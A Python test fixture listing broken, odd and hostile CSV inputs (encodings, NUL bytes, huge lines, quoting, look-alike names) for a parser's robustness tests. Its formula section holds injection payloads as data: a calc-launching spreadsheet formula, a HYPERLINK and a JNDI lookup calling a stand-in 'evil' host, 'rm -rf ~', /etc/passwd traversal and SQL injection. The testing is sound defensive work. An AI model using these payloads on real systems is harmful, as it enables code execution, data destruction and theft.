"""Delimited text that is broken, odd or hostile."""

from __future__ import annotations

from tests.poison.case import MIB, Case, as_gzip, hollow, packed_often, read, refused, repeated

XY = ["x", "y"]
GOOD = [["1", "a"], ["2", "b"]]
RTL = "\u202egnp.exe"
COLUMNS = 20_000
LONG_LINE = "line 2: the line is longer than 1 MiB"


def _encoded(encoding: str, mark: bytes = b"") -> bytes:
    return mark + "x,y\n1,ä\n2,😀\n".encode(encoding)


ENCODINGS = [
    read("utf8_bom", b"\xef\xbb\xbfx,y\n1,a\n2,b\n", GOOD, XY),
    read("utf8_bom_twice", b"\xef\xbb\xbf\xef\xbb\xbfx,y\n1,a\n2,b\n", GOOD, ["\ufeffx", "y"]),
    read("utf16_le", _encoded("utf-16-le", b"\xff\xfe"), [["1", "ä"], ["2", "😀"]], XY),
    read("utf16_be", _encoded("utf-16-be", b"\xfe\xff"), [["1", "ä"], ["2", "😀"]], XY),
    read("utf32_le", _encoded("utf-32-le", b"\xff\xfe\0\0"), [["1", "ä"], ["2", "😀"]], XY),
    read("utf32_be", _encoded("utf-32-be", b"\0\0\xfe\xff"), [["1", "ä"], ["2", "😀"]], XY),
    read("utf16_gzipped", as_gzip(_encoded("utf-16-le", b"\xff\xfe")), [["1", "ä"], ["2", "😀"]], XY),
    read("utf16_long", b"\xff\xfe" + ("x,y\n" + "1,äöü\n" * 50_000).encode("utf-16-le"), 50_000, XY),
    refused("utf16_without_mark", "x,y\n1,a\n".encode("utf-16-le"), "NUL byte"),
    refused("utf16_odd_length", _encoded("utf-16-le", b"\xff\xfe")[:-1], "byte order mark says UTF-16"),
    refused("utf16_lone_surrogate", b"\xff\xfe" + b"x\0,\0y\0\n\0\x00\xd8,\0a\0\n\0", "byte order mark says UTF-16"),
    refused("utf32_too_large", b"\xff\xfe\0\0" + b"x\0\0\0,\0\0\0y\0\0\0\n\0\0\0\xff\xff\xff\xff", "says UTF-32"),
    refused("utf16_mark_only", b"\xff\xfe", "no row"),
    refused("utf8_mark_only", b"\xef\xbb\xbf", "no row"),
    read("windows_1252", "x,y\n1,Köln\n2,€\n".encode("cp1252"), [["1", "Köln"], ["2", "€"]], XY),
    read("both_encodings", b"x,y\n1,K\xf6ln\n2,K\xc3\xb6ln\n", [["1", "Köln"], ["2", "Köln"]], XY),
    refused("bad_in_both", b"x,y\n1,\x81\n", "line 2: neither UTF-8 nor Windows-1252"),
    refused("bad_in_both_late", b"x,y\n" + b"1,a\n" * 5000 + b"1,\x8d\n", "line 5002: neither"),
    read("overlong_slash", b"x,y\n1,\xc0\xaf\n2,b\n", [["1", "À¯"], ["2", "b"]], XY),
    read("cut_character_at_the_end", b"x,y\n1,a\n2,\xc3", [["1", "a"], ["2", "Ã"]], XY),
    refused("nul_in_a_field", b"x,y\n1,a\0b\n", "line 2: a NUL byte"),
    refused("nul_line", b"x,y\n\0\n", "line 2: a NUL byte"),
    refused("only_nul", b"\0" * 5000, "NUL byte"),
    refused("nul_late", b"x,y\n" + b"1,a\n" * 20_000 + b"\0", "line 20002: a NUL byte"),
    refused("nul_in_utf16", b"\xff\xfe" + "x,y\n1,\0\n".encode("utf-16-le"), "NUL byte"),
]

LINE_ENDS = [
    read("crlf", "x,y\r\n1,a\r\n2,b\r\n", GOOD, XY),
    read("cr_only", "x,y\r1,a\r2,b\r", GOOD, XY),
    read("mixed_line_ends", "x,y\r\n1,a\r2,b\n", GOOD, XY),
    read("no_last_line_end", "x,y\n1,a\n2,b", GOOD, XY),
    read("blank_lines", "\n\n\r\nx,y\n\n1,a\n \n2,b\n\n\n", GOOD, XY),
    read("cr_at_the_edge_of_a_block", b"x,y\n1,a\n2," + b"b" * (65536 - 11) + b"\r\n", 2, XY),
    read("ctrl_z_at_the_end", "x,y\n1,a\n2,b\n\x1a", GOOD, XY),
    read("ctrl_z_padding", "x,y\n1,a\n2,b\n" + "\x1a" * 100, GOOD, XY),
    read("ctrl_z_behind_the_last_field", "x,y\n1,a\n2,b\x1a", GOOD, XY),
    read("ctrl_z_line", "x,y\n1,a\n\x1a\n2,b\n", GOOD, XY),
    read("unicode_line_separators_are_text", "x,y\n1,a\u2028b\n2,c\x85d\n", [["1", "a\u2028b"], ["2", "c\x85d"]], XY),
    read("vertical_tabs_are_text", "x,y\n1,a\x0bb\n2,c\x0cd\n", [["1", "a\x0bb"], ["2", "c\x0cd"]], XY),
    refused("only_line_ends", "\n" * 100_000, "no row"),
    refused("only_spaces", " " * 1000, "only one column|no row"),
]

LENGTHS = [
    refused("line_of_5_gb", hollow(b"x,y\n1,", 5 * 1024 * MIB, b"\n"), LONG_LINE),
    refused("first_line_of_5_gb", hollow(b"x", 5 * 1024 * MIB), "line 1: the line is longer than 1 MiB"),
    refused("line_of_5_gb_gzipped", packed_often(b"x,y\n1,", b"a" * MIB, 5120), LONG_LINE),
    refused("line_of_2_mb", b"x,y\n1," + b"a" * 2 * MIB + b"\n", LONG_LINE),
    refused(
        "late_line_of_2_mb", b"x,y\n" + b"1,a\n" * 40_000 + b"1," + b"b" * 2 * MIB, "line 40002: the line is longer"
    ),
    refused("line_just_too_long", b"x,y\n1," + b"a" * (MIB - 2) + b"\n", LONG_LINE),
    read("line_just_short_enough", b"x,y\n1," + b"a" * (MIB - 10) + b"\n2,b\n", 2, XY),
    read("many_long_lines", repeated(b"x,y\n", b"1," + b"a" * (MIB // 2) + b"\n", 40), 40, XY),
    refused("utf16_long_line", b"\xff\xfe" + ("x,y\n1," + "a" * 2 * MIB).encode("utf-16-le"), LONG_LINE),
    refused("a_million_columns", ("c," * 1_000_000 + "\n") * 2, "longer than 1 MiB"),
    refused("half_a_million_empty_columns", ("," * 500_000 + "\n") * 2, "500,001 fields"),
    refused("a_few_columns_too_many", ("1," * COLUMNS + "1\n") * 3, "20,001 fields"),
    read("as_many_columns_as_may_be", ("1," * (COLUMNS - 1) + "1\n") * 30, 30),
    read("wide_and_long", ("12345," * 4999 + "1\n") * 300, 300),
    refused("a_million_quotes", b"x,y\n1," + b'"' * 1_000_001 + b"\n", "line 2: broken quoting"),
    read("a_million_quotes_closed", b"x,y\n1," + b'"' * 1_000_000 + b"\n2,b\n", 2, XY),
    refused("quote_of_many_lines", repeated(b'x,y\n1,"', b"a" * 99 + b"\n", 30_000), "line 2: broken quoting"),
    refused("quote_at_the_very_end", b"x,y\n" + b"1,a\n" * 3000 + b'2,"', "line 3002: broken quoting"),
    read("rows_of_nothing_but_delimiters", "x,y\n,\n,\n1,a\n", [["", ""], ["", ""], ["1", "a"]], XY),
    read("one_byte_rows", repeated(b"x,y\n", b",\n" * 1000, 200), 200_000, XY),
]

QUOTES = [
    refused("unterminated_quote", 'x,y\n1,"a\n2,b\n', "line 2: broken quoting"),
    refused("text_behind_a_quote", 'x,y\n1,"a"b\n', "line 2: broken quoting"),
    read("quote_within_a_field", 'x,y\n1,a"b\n2,b\n', [["1", 'a"b'], ["2", "b"]], XY),
    read("doubled_quotes", 'x,y\n1,"a ""b"""\n2,b\n', [["1", 'a "b"'], ["2", "b"]], XY),
    read("backslash_is_no_escape", "x,y\n1,a\\\n2,b\n", [["1", "a\\"], ["2", "b"]], XY),
    read("line_ends_within_quotes", 'x,y\n1,"a\r\nb\rc\nd"\n2,b\n', [["1", "a\r\nb\rc\nd"], ["2", "b"]], XY),
    read("single_quotes_are_text", "x,y\n1,'a\n2,b'\n", [["1", "'a"], ["2", "b'"]], XY),
]

FORMULAS = [
    read(f"formula_{name}", f"x,y\n1,{text}\n2,b\n", [["1", text], ["2", "b"]], XY)
    for name, text in {
        "command": "=CMD()|' /C calc'!A0",
        "plus": "+1+cmd|' /C calc'!A0",
        "minus": "-1+cmd|'x'!A0",
        "at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "link": "=HYPERLINK(http://evil/?x)",
        "markup": "<script>alert(1)</script>",
        "template": "{{7*7}}${7*7}",
        "shell": "$(rm -rf ~)`id`;|&",
        "path": "../../../../etc/passwd",
        "percent": "%s%n%x%n",
        "sql": "'; DROP TABLE drops;--",
        "escape_sequence": "\x1b[2J\x1b]0;evil\x07",
        "backspaces": "a\x08\x08b",
        "right_to_left": RTL,
        "zero_width": "a\u200bb",
        "combining": "Z" + "\u0300" * 500,
        "interpolation": "${jndi:ldap://evil/a}",
    }.items()
]

NAMES = [
    read("name_right_to_left", f"x,{RTL}\n1,a\n2,b\n", GOOD, ["x", RTL]),
    read("names_that_look_alike", "a,\u0430\n1,a\n2,b\n", GOOD, ["a", "\u0430"]),
    read("names_in_two_normal_forms", "\u00e9,e\u0301\n1,a\n2,b\n", GOOD, ["\u00e9", "e\u0301"]),
    read("name_with_controls", "x,\x1b[31my\n1,a\n2,b\n", GOOD, ["x", "\x1b[31my"]),
    read("name_is_a_formula", "x,=1+1\n1,a\n2,b\n", GOOD, ["x", "=1+1"]),
    read("name_of_python", "x,__class__\n1,a\n2,b\n", GOOD, ["x", "__class__"]),
    read("name_with_line_end", 'x,"a\nb"\n1,a\n2,b\n', GOOD, ["x", "a\nb"]),
    read("name_very_long", f"x,{'n' * 5000}\n1,a\n2,b\n", GOOD, ["x", "n" * 5000]),
    read("empty_name", "x,\n1,a\n2,b\n", GOOD, ["x", "column_1"]),
    read("header_only", "x,y\n", [["x", "y"]]),  # one row alone: there is nothing below it that would tell
]

SHAPES = [
    refused("one_column", "only\none\ncolumn\n", "only one column"),
    refused("one_word", "hello", "only one column"),
    refused("prose", "Dear all.\nPlease find the data attached.\nRegards\n", "only one column"),
    read("semicolons", "x;y\n1,5;a\n2,5;b\n", [["1,5", "a"], ["2,5", "b"]], XY),
    read("tabs", "x\ty\n1\ta\n2\tb\n", GOOD, XY, "data.tsv"),
    read("bars", "x|y\n1|a\n2|b\n", GOOD, XY),
    read("odd_delimiters_in_fields", "x,y\n1,a;b|c\n2,d\te\n", [["1", "a;b|c"], ["2", "d\te"]], XY),
    read("huge_numbers", "x,y\n1e999,a\n" + "9" * 4000 + ",b\n", [["1e999", "a"], ["9" * 4000, "b"]], XY),
    read("nan_and_infinity", "x,y\nNaN,a\n-inf,b\n3,c\n", [["NaN", "a"], ["-inf", "b"], ["3", "c"]], XY),
]

RAGGED = [
    Case("ragged_rows_are_no_bad_file", b"x,y\n1,a\n2\n3,c,d\n4,e\n", rows=[["1", "a"], ["4", "e"]], names=XY),
    Case("ragged_first_row", b"x,y\n1,a,b\n2,c\n", rows=[["2", "c"]], names=XY),
    Case("many_torn_rows", b"x,y\n" + b"1,a\n" * 500 + b"2\n" * 100_000, rows=500, names=XY),
]

CASES: list[Case] = [*ENCODINGS, *LINE_ENDS, *LENGTHS, *QUOTES, *FORMULAS, *NAMES, *SHAPES, *RAGGED]
